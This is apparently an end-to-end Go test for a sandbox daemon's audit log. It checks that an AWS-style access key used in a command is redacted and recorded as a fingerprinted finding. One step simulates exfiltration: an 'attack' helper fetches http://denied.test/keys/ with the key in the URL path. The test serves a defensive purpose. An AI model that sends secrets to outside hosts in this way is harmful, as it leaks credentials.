package e2e

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock/api"
	"github.com/airlock-sandbox/airlock/client"
)

// recordingSandbox makes a tenant under the record scan policy (its
// root the test's temporary directories) and a sandbox of it with a
// workspace and a proxy that allows allowed.test.
func recordingSandbox(t *testing.T, d *daemonProc, name string) (*client.Client, *api.Sandbox) {
	t.Helper()
	ctx := context.Background()
	tn, err := d.admin.CreateTenant(ctx, &api.CreateTenant{Name: name, ScanPolicy: "record", Roots: []string{testRoot(t)}})
	if err != nil {
		t.Fatal(err)
	}
	c := d.client(t, tn.Key)
	sb, err := c.CreateSandbox(ctx, &api.CreateSandbox{Workspace: workspace(t), Network: api.Network{Mode: "proxy", Allow: []string{"allowed.test"}}})
	if err != nil {
		t.Fatal(err)
	}
	return c, sb
}

// Under the record scan policy a call with a pasted key goes on unchanged,
// and its records kept the key: exec.start's argv, and the egress record
// of a request the policy denied (its path, unscanned). The audit log
// holds no credential the scanner finds; each is a finding by fingerprint.
func TestServeRecordPolicyLogsNoCredential(t *testing.T) {
	forEachWall(t, serveRecordPolicyLogsNoCredential)
}

func serveRecordPolicyLogsNoCredential(t *testing.T, w wallCase) {
	const key = "AKIAQ4ZT6WX2LR7NPJ3V"
	data := newDataDir(t)
	d := w.startDaemon(t, data)
	ctx := context.Background()
	c, sb := recordingSandbox(t, d, "rec")
	out, _, _ := run(t, c, sb.ID, sh("echo ran "+key))
	if !strings.Contains(out, "ran "+key) {
		t.Errorf("under record the command runs as given: %q", out)
	}
	run(t, c, sb.ID, &api.Exec{Cmd: []string{"/workspace/attack", "fetch", "http://denied.test/keys/" + key, "-", "proxy"}})
	if err := c.Destroy(ctx, sb.ID); err != nil {
		t.Fatal(err)
	}
	recs, err := c.Audit(ctx, sb.ID, "")
	if err != nil {
		t.Fatal(err)
	}
	all, _ := json.Marshal(recs)
	if strings.Contains(string(all), key) {
		t.Errorf("the audit log holds the key: %s", all)
	}
	kinds := map[string]int{}
	for _, r := range recs {
		kinds[r.Kind]++
		switch {
		case r.Kind == "exec.start" && strings.Contains(string(r.Data), "echo ran"):
			if !strings.Contains(string(r.Data), "echo ran [REDACTED:aws-access-token]") {
				t.Errorf("exec.start: %s", r.Data)
			}
		case r.Kind == "egress" && strings.Contains(string(r.Data), "denied.test"):
			if !strings.Contains(string(r.Data), "/keys/[REDACTED:aws-access-token]") || !strings.Contains(string(r.Data), `"fingerprint":"hmac:`) {
				t.Errorf("egress: %s", r.Data)
			}
		}
	}
	if kinds["secret.finding"] < 2 {
		t.Errorf("findings: %v", kinds)
	}
	noResidue(t)
}
